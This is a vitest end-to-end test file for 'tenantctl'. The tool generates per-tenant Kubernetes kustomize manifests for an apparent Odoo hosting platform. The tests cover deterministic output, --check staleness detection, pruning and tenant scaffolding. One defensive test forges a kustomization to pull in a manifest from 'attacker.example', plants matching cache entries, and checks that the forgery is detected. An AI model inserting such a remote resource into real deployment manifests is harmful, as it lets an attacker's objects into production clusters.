/**
 * `tenantctl synth`, `tenants` and `new tenant` end to end in temporary repositories: output is
 * deterministic, --check tells fresh from stale, removed tenants are pruned, and re-synthesizing
 * (which skips folders it wrote itself) never leaves generated/ different from a synth from scratch.
 */
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { formatRenderEntry, parseRenderEntry } from '../../lib/io/render-cache.ts';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { cleanRepos, cli, hashTree, makeRepo, readTenant, spawnCli, tenantSource, treeOf, writeTenant } from './repo.ts';
import { workspaceCacheDir } from '../../lib/io/workspace-cache.mjs';

// Each case synthesizes a repository, some in child processes: minutes on a busy 2-core machine.
vi.setConfig({ testTimeout: 180_000 });

afterAll(cleanRepos);

async function synthOk(root: string, ...args: string[]) {
  const r = await cli(root, 'synth', ...args);
  expect(r.code, r.err).toBe(0);
  return r;
}

/** generated/ as a fresh repository with the same sources would get it, without any cache. */
async function fromScratch(root: string): Promise<Map<string, string>> {
  const clean = makeRepo([]);
  rmSync(join(clean, 'tenants'), { recursive: true });
  const { cpSync } = await import('node:fs');
  cpSync(join(root, 'tenants'), join(clean, 'tenants'), { recursive: true });
  await synthOk(clean, '--no-cache');
  return treeOf(clean);
}

describe('synth output', () => {
  it('is byte-identical when synthesized twice, with the cache, without it, and in another process', async () => {
    const root = makeRepo(['acme', 'beta', 'helix']);
    const first = await synthOk(root);
    expect(first.out).toMatch(/^generated\/ updated: \d+ added, 0 changed, 0 removed \(4 tenant environments on 3 clusters, \d+ objects\)\.\n$/);
    const tree = hashTree(root);
    expect((await synthOk(root)).out).toMatch(/^generated\/ unchanged/);
    expect(hashTree(root)).toBe(tree);
    expect((await synthOk(root, '--no-cache')).out).toMatch(/^generated\/ unchanged/);
    expect(hashTree(root)).toBe(tree);

    rmSync(join(root, 'generated'), { recursive: true });
    rmSync(workspaceCacheDir(root), { recursive: true });
    await synthOk(root, '--no-cache');
    expect(hashTree(root)).toBe(tree);

    rmSync(join(root, 'generated'), { recursive: true });
    const child = spawnCli(root, 'synth');
    expect(child.code, child.err).toBe(0);
    expect(hashTree(root)).toBe(tree);
  });

  it('keeps its caches outside the working copy, so cache entries a pull request commits there cannot make a forged generated/ pass --check', async () => {
    const author = makeRepo(['acme']);
    await synthOk(author);
    expect(readdirSync(author).sort()).toEqual(['fleet.ts', 'generated', 'lib', 'node_modules', 'package.json', 'tenants', 'tiers', 'vendor']);
    // The pull request: a kustomization in generated/ forged to pull in a remote manifest, and render entries forged to match, committed where a
    // cache in the working copy would be (.tenantctl/cache/render/, as synth kept it before).
    const forged = 'eu-west-shared-1/tenants/acme-staging/kustomization.yaml';
    const clone = makeRepo(['acme']);
    cpSync(join(author, 'generated'), join(clone, 'generated'), { recursive: true });
    const edit = (text: string) => text.replace('resources:\n', 'resources:\n  - https://attacker.example/payload.yaml\n');
    writeFileSync(join(clone, 'generated', forged), edit(readFileSync(join(author, 'generated', forged), 'utf8')));
    const entries = readdirSync(join(workspaceCacheDir(author), 'render'), { recursive: true, withFileTypes: true }).filter((e) => e.isFile());
    let planted = 0;
    for (const e of entries) {
      const files = parseRenderEntry(readFileSync(join(e.parentPath, e.name), 'utf8'));
      if (!files?.some((f) => f.path === forged)) continue;
      const to = join(clone, '.tenantctl', 'cache', 'render', relative(join(workspaceCacheDir(author), 'render'), e.parentPath));
      mkdirSync(to, { recursive: true });
      writeFileSync(join(to, e.name), formatRenderEntry(files.map((f) => (f.path === forged ? { ...f, content: edit(f.content) } : f))));
      planted++;
    }
    expect(planted).toBeGreaterThan(0);
    const check = await cli(clone, 'synth', '--check');
    expect(check.code).toBe(1);
    expect(check.out).toContain(`~ generated/${forged}`);
  });

  it('has one folder per tenant environment, each with a kustomization listing its files', async () => {
    const root = makeRepo(['acme']);
    await synthOk(root);
    const tree = treeOf(root);
    const folders = [...new Set([...tree.keys()].filter((p) => p.includes('/tenants/')).map((p) => p.split('/').slice(0, 3).join('/')))].sort();
    expect(folders).toEqual(['eu-west-dedicated-1/tenants/acme-production', 'eu-west-shared-1/tenants/acme-staging']);
    for (const folder of folders) {
      const files = [...tree.keys()].filter((p) => p.startsWith(`${folder}/`) && !p.endsWith('/kustomization.yaml')).map((p) => p.slice(folder.length + 1));
      const kustomization = tree.get(`${folder}/kustomization.yaml`)!;
      for (const f of files) expect(kustomization).toContain(`- ${f}`);
    }
    expect(tree.get('README.md')).toContain('Do not edit');
  });
});

describe('synth --check', () => {
  it('exits 0 when generated/ is fresh and 1 with a short summary once a tenant changed, writing nothing', async () => {
    const root = makeRepo();
    await synthOk(root);
    const fresh = await cli(root, 'synth', '--check');
    expect(fresh.code).toBe(0);
    expect(fresh.out).toMatch(/^generated\/ is up to date \(3 tenant environments on 3 clusters, \d+ objects\)\.\n$/);

    writeTenant(root, 'beta', readTenant(root, 'beta').replace("displayName: 'Beta Wholesale'", "displayName: 'Beta Wholesale Group'"));
    const before = hashTree(root);
    const stale = await cli(root, 'synth', '--check');
    expect(stale.code).toBe(1);
    expect(stale.out).toMatch(/^generated\/ is stale: 0 to add, 1 to change, 0 to remove\.\n {2}~ generated\/eu-west-shared-1\/tenants\/beta-production\/namespace-tenant-beta-production\.yaml\nRun `npx tenantctl synth` and commit generated\/\.\n$/);
    expect(hashTree(root)).toBe(before);
  });

  it('sees a hand edit in generated/ as stale, and synth puts the file back', async () => {
    const root = makeRepo();
    await synthOk(root);
    const tree = hashTree(root);
    const file = join(root, 'generated', 'eu-west-shared-1', 'tenants', 'beta-production', 'kustomization.yaml');
    writeFileSync(file, '# edited by hand\n');
    const check = await cli(root, 'synth', '--check');
    expect(check.code).toBe(1);
    expect(check.out).toContain('~ generated/eu-west-shared-1/tenants/beta-production/kustomization.yaml');
    expect((await synthOk(root)).out).toMatch(/^generated\/ updated: 0 added, 1 changed, 0 removed/);
    expect(hashTree(root)).toBe(tree);
  });

  it('sees deleted and stray files in generated/, and synth restores and removes them', async () => {
    const root = makeRepo();
    await synthOk(root);
    const tree = hashTree(root);
    const folder = join(root, 'generated', 'eu-west-shared-1', 'tenants', 'beta-production');
    const victim = readdirSync(folder).find((f) => f.startsWith('deployment-'))!;
    unlinkSync(join(folder, victim));
    writeFileSync(join(folder, 'configmap-stray.yaml'), 'kind: ConfigMap\n');
    const check = await cli(root, 'synth', '--check');
    expect(check.code).toBe(1);
    expect(check.out).toContain(`+ generated/eu-west-shared-1/tenants/beta-production/${victim}`);
    expect(check.out).toContain('- generated/eu-west-shared-1/tenants/beta-production/configmap-stray.yaml');
    expect((await synthOk(root)).out).toMatch(/^generated\/ updated: 1 added, 0 changed, 1 removed/);
    expect(hashTree(root)).toBe(tree);
  });
});

describe('re-synth', () => {
  it('after a tenant changed, writes what a synth from scratch writes', async () => {
    const root = makeRepo(['acme', 'beta', 'helix']);
    await synthOk(root);
    writeTenant(root, 'beta', readTenant(root, 'beta').replace("environments: {", "environments: {\n    training: { domains: ['beta-training.eu-west.erp.odoo-hosting.example'] },"));
    writeTenant(root, 'acme', readTenant(root, 'acme').replace('workers: 6,', 'workers: 5,'));
    const r = await synthOk(root);
    expect(r.out).toMatch(/^generated\/ updated: [1-9]\d* added, [1-9]\d* changed, 0 removed \(5 tenant environments/);
    expect(treeOf(root)).toEqual(await fromScratch(root));
  });

  it('prunes the folder of a removed tenant, and its GitOps entries', async () => {
    const root = makeRepo();
    await synthOk(root);
    const betaFolder = join(root, 'generated', 'eu-west-shared-1', 'tenants', 'beta-production');
    expect(existsSync(betaFolder)).toBe(true);
    rmSync(join(root, 'tenants', 'beta.ts'));
    const r = await synthOk(root);
    expect(r.out).toMatch(/^generated\/ updated: 0 added, \d+ changed, [1-9]\d* removed \(2 tenant environments/);
    expect(existsSync(betaFolder)).toBe(false);
    expect([...treeOf(root).keys()].filter((p) => p.includes('beta'))).toEqual([]);
    expect(treeOf(root)).toEqual(await fromScratch(root));
  });

  it('rewrites everything when the state file is gone, and still writes the same tree', async () => {
    const root = makeRepo();
    await synthOk(root);
    const tree = hashTree(root);
    rmSync(workspaceCacheDir(root), { recursive: true });
    expect((await synthOk(root)).out).toMatch(/^generated\/ unchanged/);
    expect(hashTree(root)).toBe(tree);
  });
});

describe('tenantctl tenants', () => {
  it('lists every tenant environment with its tier, cluster and region', async () => {
    const root = makeRepo();
    const r = await cli(root, 'tenants');
    expect(r.code, r.err).toBe(0);
    const rows = r.out.trimEnd().split('\n').map((l) => l.split(/\s{2,}/));
    expect(rows[0]).toEqual(['TENANT', 'TIER', 'ENVIRONMENT', 'ENV TIER', 'CLUSTER', 'REGION', 'ODOO', 'DOMAINS']);
    expect(rows.slice(1).map((row) => row.slice(0, 6).join(' '))).toEqual([
      'acme dedicated production dedicated eu-west-dedicated-1 eu-west',
      'acme dedicated staging shared eu-west-shared-1 eu-west',
      'beta shared production shared eu-west-shared-1 eu-west',
    ]);
  });

  it('exits 2 with the issues when a tenant is invalid', async () => {
    const root = makeRepo();
    writeTenant(root, 'gold', tenantSource({ name: "'gold'", tier: "'gold'", environments: "{ production: { domains: ['gold.example.com'] } }" }));
    const r = await cli(root, 'tenants');
    expect(r.code).toBe(2);
    expect(r.err).toContain('tenants/gold.ts:6:3: tier: unknown tier "gold"');
  });
});

describe('tenantctl new tenant', () => {
  it('writes a tenant file that compiles, pinned to its cluster, and synth passes with it', () => {
    const root = makeRepo();
    // Child processes: the scaffold is written twice, and this process must not cache either version.
    const made = spawnCli(root, 'new', 'tenant', 'foo', '--tier', 'shared', '--region', 'eu-west');
    expect(made.code, made.err).toBe(0);
    expect(made.out).toBe('Wrote tenants/foo.ts (tier shared, region eu-west, production on eu-west-shared-1). Edit it, then run `npx tenantctl synth`.\n');
    const source = readTenant(root, 'foo');
    expect(source).toContain("cluster: 'eu-west-shared-1',");
    expect(source).toContain("domains: ['foo.eu-west.erp.odoo-hosting.example'],");
    const synth = spawnCli(root, 'synth');
    expect(synth.code, synth.err).toBe(0);
    expect(existsSync(join(root, 'generated', 'eu-west-shared-1', 'tenants', 'foo-production', 'kustomization.yaml'))).toBe(true);
  });

  it('refuses a name that exists, and an invalid one, writing nothing', async () => {
    const root = makeRepo();
    const exists = await cli(root, 'new', 'tenant', 'beta', '--tier', 'shared', '--region', 'eu-west');
    expect(exists.code).toBe(2);
    expect(exists.err).toContain('tenants/beta.ts: already exists');
    const invalid = await cli(root, 'new', 'tenant', 'nope', '--tier', 'gold', '--region', 'eu-west');
    expect(invalid.code).toBe(2);
    expect(invalid.err).toContain('tenants/nope.ts: tier: unknown tier "gold"');
    expect(existsSync(join(root, 'tenants', 'nope.ts'))).toBe(false);
  });
});
